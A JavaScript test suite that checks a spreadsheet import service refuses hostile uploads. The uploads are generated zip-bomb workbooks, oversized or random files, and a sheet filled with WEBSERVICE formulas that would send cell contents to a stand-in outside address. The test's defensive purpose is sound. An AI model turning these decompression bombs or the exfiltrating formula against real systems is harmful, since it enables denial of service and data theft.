// Files that mean harm, or that nobody meant to send: each is refused in words,
// soon, without much memory, and the service goes on.

import { randomBytes } from "node:crypto";
import { sendFile } from "../lib/send.mjs";
import { archive, endless, part, workbook, worksheetEnd, worksheetStart } from "../lib/zip.mjs";
import { accounts } from "./20-every-page.mjs";

export const name = "hostile uploads";

const gigabyte = 1024 ** 3;
// The promise is five seconds; a busy machine is given more before it is a failure.
const mostSeconds = 30;
const mostMemory = 600_000_000;

function* repeated(piece, times) {
  for (let time = 0; time < times; time += 1) yield piece;
}

const columnName = (number) => (number < 26 ? "" : columnName(Math.floor(number / 26) - 1)) + String.fromCharCode(65 + (number % 26));

function formulas() {
  const rows = Array.from({ length: 400 }, (_, row) => {
    const cells = Array.from({ length: 20 }, (_, column) => `<c r="${columnName(column)}${row + 1}"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f></c>`);
    return `<row r="${row + 1}">${cells.join("")}</row>`;
  });
  return workbook(part("sheet", worksheetStart + rows.join("") + worksheetEnd));
}

async function files() {
  const bomb = await endless("sheet", worksheetStart, gigabyte);
  const manyColumns = await endless("sheet", `${worksheetStart}<row r="1"><c r="XFD1"><v>1</v></c></row>`, 1_000_000);
  return [
    { fileName: "bomb.xlsx", pieces: [workbook(bomb)], wanted: "unpacks to far more than a sheet of this kind needs" },
    { fileName: "bomb-that-lies.xlsx", pieces: [workbook({ ...bomb, size: 2_000 })], wanted: /unpacks to far more|damaged/ },
    { fileName: "many-parts.xlsx", pieces: [archive(Array.from({ length: 5_000 }, (_, place) => part(`xl/part${place}.xml`, "<a/>")))], wanted: /unpacks to far more|damaged|not a spreadsheet/ },
    { fileName: "far-column.xlsx", pieces: [workbook(manyColumns)], wanted: /columns|damaged|No row of column headings/ },
    { fileName: "ten-million-columns.csv", pieces: repeated(Buffer.from(",".repeat(1_000_000)), 10), wanted: /is longer than 1000000 characters|more than 400 columns/ },
    { fileName: "formulas.xlsx", pieces: [formulas()], wanted: /No row of column headings|formula/ },
    { fileName: "random.xlsx", pieces: [randomBytes(20_000_000)], wanted: "not a spreadsheet that can be read" },
    { fileName: "random.csv", pieces: [randomBytes(2_000_000)], wanted: "not a spreadsheet that can be read" },
    { fileName: "empty.csv", pieces: [], wanted: "Choose a sheet that has something in it" },
    { fileName: "one-long-line.csv", pieces: repeated(Buffer.alloc(4_000_000, "a"), 100), wanted: "larger than 25 MB" },
  ];
}

export async function run(ctx) {
  const server = await ctx.server();
  const officer = accounts(server.signIns).find((one) => one.role.startsWith("Police support officer"));
  const page = await ctx.newPage();
  await ctx.signIn(page, officer.signInName, officer.password);
  const cookie = (await page.context().cookies()).map((one) => `${one.name}=${one.value}`).join("; ");
  await page.goto(`${server.url}/imports`);
  const importsBefore = await page.locator("main table tbody tr").count();
  const before = await server.mostMemory();
  let most = before;
  for (const { fileName, pieces, wanted } of await files()) {
    await ctx.step(`${fileName} is refused in words`, async () => {
      const answer = await sendFile(`${server.url}/imports`, { cookie, source: "police", fileName, pieces });
      most = await server.mostMemory();
      ctx.note(`${fileName}: ${answer.seconds.toFixed(2)} seconds, ${Math.round(most / 1e6)} MB at most so far (${Math.round((most - before) / 1e6)} MB more than before)`);
      ctx.expect.ok([413, 422].includes(answer.status), `${fileName} is refused, but was answered with ${answer.status} ${answer.location ?? ""}`);
      const told = /govuk-error-summary[\s\S]*?<\/ul>/.exec(answer.text)?.[0].replace(/<[^>]+>/g, " ").replace(/\s+/g, " ") ?? answer.text.slice(0, 300);
      const says = typeof wanted === "string" ? told.includes(wanted) : wanted.test(told);
      ctx.expect.ok(says, `the refusal of ${fileName} should say ${wanted}, but says: ${told}`);
      ctx.expect.ok(answer.seconds < mostSeconds, `the refusal of ${fileName} took ${answer.seconds.toFixed(1)} seconds`);
    });
  }
  await ctx.step("the server held little memory", async () => {
    ctx.expect.ok(most < mostMemory, `the server held ${Math.round(most / 1e6)} MB at most`);
  });
  await ctx.step("the server still serves, and nothing was imported", async () => {
    await page.goto(`${server.url}/incidents`);
    await ctx.expect.titleContains(page, "Incidents");
    await page.goto(`${server.url}/imports`);
    ctx.expect.equal(await page.locator("main table tbody tr").count(), importsBefore, "imports in the list");
  });
}
